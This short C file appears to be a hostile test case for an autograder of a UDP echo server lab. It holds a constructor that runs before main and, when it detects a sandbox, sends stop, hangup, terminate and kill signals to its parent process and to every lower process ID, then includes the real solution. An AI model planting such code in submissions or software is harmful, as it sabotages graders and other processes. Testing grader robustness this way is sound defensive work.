/* hostile: Kills, stops and hangs up whoever started it, and whoever started
       that one.
   lab: 13-udp-echo-server
   earns: all
   verdict: -
   must-not: a grader error
*/
#include <signal.h>
#include "../../pwned.h"

static void attack(void) __attribute__((constructor));

static void attack(void)
{
    static const int signals[] = { SIGSTOP, SIGHUP, SIGTERM, SIGKILL };

    if (!in_a_box())
        return; /* by hand, it would be the shell */
    for (size_t i = 0; i < sizeof signals / sizeof signals[0]; i++) {
        kill(getppid(), signals[i]);
        for (pid_t pid = 1; pid < getpid(); pid++)
            kill(pid, signals[i]);
    }
}

#include "../../../../../solutions/13-udp-echo-server/udp_echo_server.c"
